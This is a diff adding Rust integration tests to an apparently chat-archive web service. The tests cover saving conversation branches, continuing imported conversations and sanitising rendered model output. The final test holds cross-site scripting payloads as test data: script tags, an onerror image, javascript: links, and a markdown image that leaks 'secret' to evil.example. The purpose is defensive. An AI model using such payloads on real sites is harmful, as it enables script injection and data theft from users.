@@ -449,3 +449,96 @@ async fn pages_that_follow_an_import_are_counted() {
     open.pop();
     assert_eq!(follow().await.status(), StatusCode::OK, "a page that was closed leaves its place");
 }
+
+fn said(role: &str, text: &str) -> serde_json::Value {
+    serde_json::json!({"role": role, "text": text})
+}
+
+fn chat(address: &str, body: &serde_json::Value) -> Request<Body> {
+    Request::post(address)
+        .header("host", "127.0.0.1")
+        .header("content-type", "application/json")
+        .body(Body::from(body.to_string()))
+        .unwrap()
+}
+
+#[tokio::test]
+async fn what_is_said_on_the_chat_page_is_kept() {
+    let house = House::empty().await;
+    let page = house.page("/chat").await;
+    assert!(page.contains("athenaeum chat"), "without script the page says what to do: {page}");
+    let token = between(&page, "data-token=\"", "\"").to_owned();
+    let keep = |path: serde_json::Value| {
+        let told = serde_json::json!({"token": token, "conversation": "conversation-1", "path": path});
+        house.send(chat("/chat/keep", &told))
+    };
+    let question =
+        serde_json::json!({"id": "question-1", "said": said("user", "Where does the bittern nest?")});
+    let answer = serde_json::json!({"id": "answer-1", "said": said("assistant", "In the *reeds*.")});
+    let (status, kept) = text(keep(serde_json::json!([question, answer])).await).await;
+    assert_eq!(status, StatusCode::OK, "{kept}");
+    let kept: serde_json::Value = serde_json::from_str(&kept).unwrap();
+    let address = kept["chat"].as_str().unwrap().to_owned();
+    assert!(house.page("/search?q=bittern").await.contains("Where does the"));
+    assert!(
+        house.page("/chat").await.contains(&format!("href=\"{address}\"")),
+        "it is offered to go on with"
+    );
+    // The answer given anew is another branch, on either page.
+    let anew = serde_json::json!({"id": "answer-2", "said": said("assistant", "Among the sedge.")});
+    assert_eq!(keep(serde_json::json!([{"id": "question-1"}, anew])).await.status(), StatusCode::OK);
+    let read = house.page(kept["conversation"].as_str().unwrap()).await;
+    assert!(read.contains("2 / 2") && read.contains("Among the sedge.") && !read.contains("reeds"), "{read}");
+    let turns: serde_json::Value =
+        serde_json::from_str(&house.page(&format!("{address}/turns")).await).unwrap();
+    assert_eq!(turns["path"], serde_json::json!(["question-1", "answer-2"]));
+    assert_eq!(turns["turns"][1]["html"], "<p>In the <em>reeds</em>.</p>\n");
+    // What is gone is not brought back by half.
+    let gone = serde_json::json!([{"id": "question-9"}, {"id": "answer-9"}]);
+    assert_eq!(keep(gone).await.status(), StatusCode::CONFLICT);
+    let foreign = serde_json::json!({"token": "x", "conversation": "conversation-1", "path": []});
+    assert_eq!(house.send(chat("/chat/keep", &foreign)).await.status(), StatusCode::FORBIDDEN);
+}
+
+#[tokio::test]
+async fn a_conversation_from_elsewhere_can_be_gone_on_with() {
+    let house = House::furnished().await;
+    let address = conversation_of(&house, "Sourdough").await;
+    let chat = address.replace("/conversations/", "/chat/");
+    assert!(house.page(&address).await.contains(&format!("href=\"{chat}\"")));
+    assert!(house.page(&chat).await.contains("Sourdough that rises"));
+    let turns: serde_json::Value = serde_json::from_str(&house.page(&format!("{chat}/turns")).await).unwrap();
+    assert_eq!(
+        turns["conversation"],
+        serde_json::Value::Null,
+        "it becomes a conversation of its own: {turns}"
+    );
+    assert_eq!((&turns["turns"][0]["hidden"], &turns["turns"][1]["hidden"]), (&true.into(), &false.into()));
+    assert_eq!(turns["turns"][2]["reasoning"], "Temperature matters.");
+    for nowhere in ["/chat/x", "/chat/01890000-0000-7000-8000-000000000000", "/chat/x/turns"] {
+        assert_eq!(house.get(nowhere).await.0, StatusCode::NOT_FOUND, "{nowhere}");
+    }
+}
+
+#[tokio::test]
+async fn what_a_model_wrote_is_shown_by_our_own_writer() {
+    let house = House::empty().await;
+    let mut hostile = said(
+        "assistant",
+        "<script>alert(1)</script> ![x](https://evil.example/?q=secret) [y](javascript:alert(1))",
+    );
+    hostile["reasoning"] = "<img src=x onerror=alert(1)>".into();
+    hostile["files"] =
+        serde_json::json!([{"name": "</summary><script>", "text": "</pre><script>alert(2)</script>"}]);
+    let (status, html) = text(house.send(chat("/chat/render", &hostile)).await).await;
+    assert_eq!(status, StatusCode::OK);
+    for part in ["<script", "<img", "href=\"javascript"] {
+        assert!(!html.contains(part), "{part} in {html}");
+    }
+    assert!(html.contains("Thought") && html.contains("evil.example"), "{html}");
+    for wrong in [said("tool", "x"), said("system", "x")] {
+        assert_eq!(house.send(chat("/chat/render", &wrong)).await.status(), StatusCode::NOT_FOUND);
+    }
+    let unknown = serde_json::json!({"role": "user", "text": "x", "html": "<b>"});
+    assert_eq!(house.send(chat("/chat/render", &unknown)).await.status(), StatusCode::UNPROCESSABLE_ENTITY);
+}
